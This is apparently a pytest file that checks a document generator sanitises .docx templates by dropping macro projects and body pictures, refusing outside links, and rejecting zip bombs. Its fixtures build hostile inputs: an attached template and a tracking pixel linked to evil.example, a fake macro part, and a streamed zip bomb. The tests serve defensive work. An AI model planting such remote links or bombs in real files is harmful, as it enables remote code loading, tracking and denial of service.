"""A reference .docx gives styles, numbering, theme, page setup, header and footer, and nothing else.

Its baggage (pictures and objects of its deleted body, a macro project) is
dropped; a relationship to an outside address is refused with a message; a
zip that inflates past the stated limits is refused before it is read.
"""
from __future__ import annotations

import os
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import Cm

from briefgen.writers.docx.reference import MAX_PART_BYTES
from helpers import run_cli

CONTENT = Path(__file__).parent / "fixtures" / "batch_content"


def png(path: Path, size: int) -> Path:
    """A valid PNG of about ``size`` bytes (random pixels do not compress)."""
    from PIL import Image

    side = int((size / 3) ** 0.5) + 1
    Image.frombytes("RGB", (side, side), os.urandom(side * side * 3)).save(path)
    return path


def rewrite(path: Path, change) -> Path:
    """Rewrite the zip at ``path`` member by member: ``change(name, data)`` returns new data."""
    with zipfile.ZipFile(path) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    extra = change(members)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in {**members, **(extra or {})}.items():
            z.writestr(name, data)
    return path


def reference(tmp_path: Path) -> Path:
    """A house template: a photo in its body, a logo in its header."""
    doc = docx.Document()
    doc.add_paragraph("Body text of the template, deleted in every brief.")
    doc.add_picture(str(png(tmp_path / "photo.png", 200_000)), width=Cm(5))
    header = doc.sections[0].header.paragraphs[0]
    header.add_run().add_picture(str(png(tmp_path / "logo.png", 3_000)), height=Cm(1))
    path = tmp_path / "house.docx"
    doc.save(str(path))
    return path


def make_docx(tmp_path: Path, ref: Path, capsys) -> tuple[int, str, Path]:
    config = tmp_path / "briefgen.toml"
    config.write_text(f'reference_docx = "{ref.as_posix()}"\n', encoding="utf-8")
    out = tmp_path / "brief.docx"
    code, _, err = run_cli(capsys, "make", "-r", "suqian", "--content", CONTENT, "--config", config,
                           "-f", "docx", "-o", out)
    return code, err, out


def test_the_template_body_pictures_and_macros_stay_behind_the_header_logo_comes(tmp_path, capsys):
    def add_macros(members):
        rels = members["word/_rels/document.xml.rels"].decode()
        rels = rels.replace("</Relationships>",
                            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
                            'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>')
        members["word/_rels/document.xml.rels"] = rels.encode()
        members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/word/vbaProject.bin" '
                         b'ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        return {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 pretend macros"}

    ref = rewrite(reference(tmp_path), add_macros)
    code, err, out = make_docx(tmp_path, ref, capsys)
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        names = z.namelist()
        media = {n: z.getinfo(n).file_size for n in names if n.startswith("word/media/")}
        header_rels = "".join(z.read(n).decode() for n in names if re.match(r"word/_rels/header\d*\.xml\.rels", n))
    assert not any("vbaProject" in n for n in names)
    assert all(size < 100_000 for size in media.values()), media    # the 200 KB photo is gone
    assert "image" in header_rels                                     # the header keeps its logo


@pytest.mark.parametrize("where", ["settings", "header"])
def test_a_relationship_to_an_outside_address_is_refused(where, tmp_path, capsys):
    def add_remote(members):
        if where == "settings":
            members["word/settings.xml"] = members["word/settings.xml"].replace(
                b"<w:zoom", b'<w:attachedTemplate r:id="rIdT"/><w:zoom')
            return {"word/_rels/settings.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                '<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
                "</Relationships>").encode()}
        name = next(n for n in members if re.match(r"word/_rels/header\d*\.xml\.rels", n))
        members[name] = re.sub(rb'Target="[^"]*media/[^"]*"', b'Target="http://evil.example/pixel.png" '
                               b'TargetMode="External"', members[name])
        return None

    ref = rewrite(reference(tmp_path), add_remote)
    code, err, out = make_docx(tmp_path, ref, capsys)
    assert code == 1 and "links to an outside resource" in err and "http://evil.example/" in err
    assert "Traceback" not in err and not out.exists()


def test_a_zip_bomb_is_refused_before_it_is_inflated(tmp_path, capsys):
    ref = reference(tmp_path)
    with zipfile.ZipFile(ref) as z:
        members = {i.filename: z.read(i) for i in z.infolist()}
    with zipfile.ZipFile(ref, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            if name == "word/styles.xml":
                with z.open(name, "w", force_zip64=True) as part:   # streamed: the test stays small too
                    chunk = b" " * (1024 * 1024)
                    for _ in range(MAX_PART_BYTES // len(chunk) + 1):
                        part.write(chunk)
            else:
                z.writestr(name, data)
    assert ref.stat().st_size < 1024 * 1024
    code, err, out = make_docx(tmp_path, ref, capsys)
    assert code == 1 and "inflates to" in err and "word/styles.xml" in err and "the limit is" in err
    assert not out.exists()
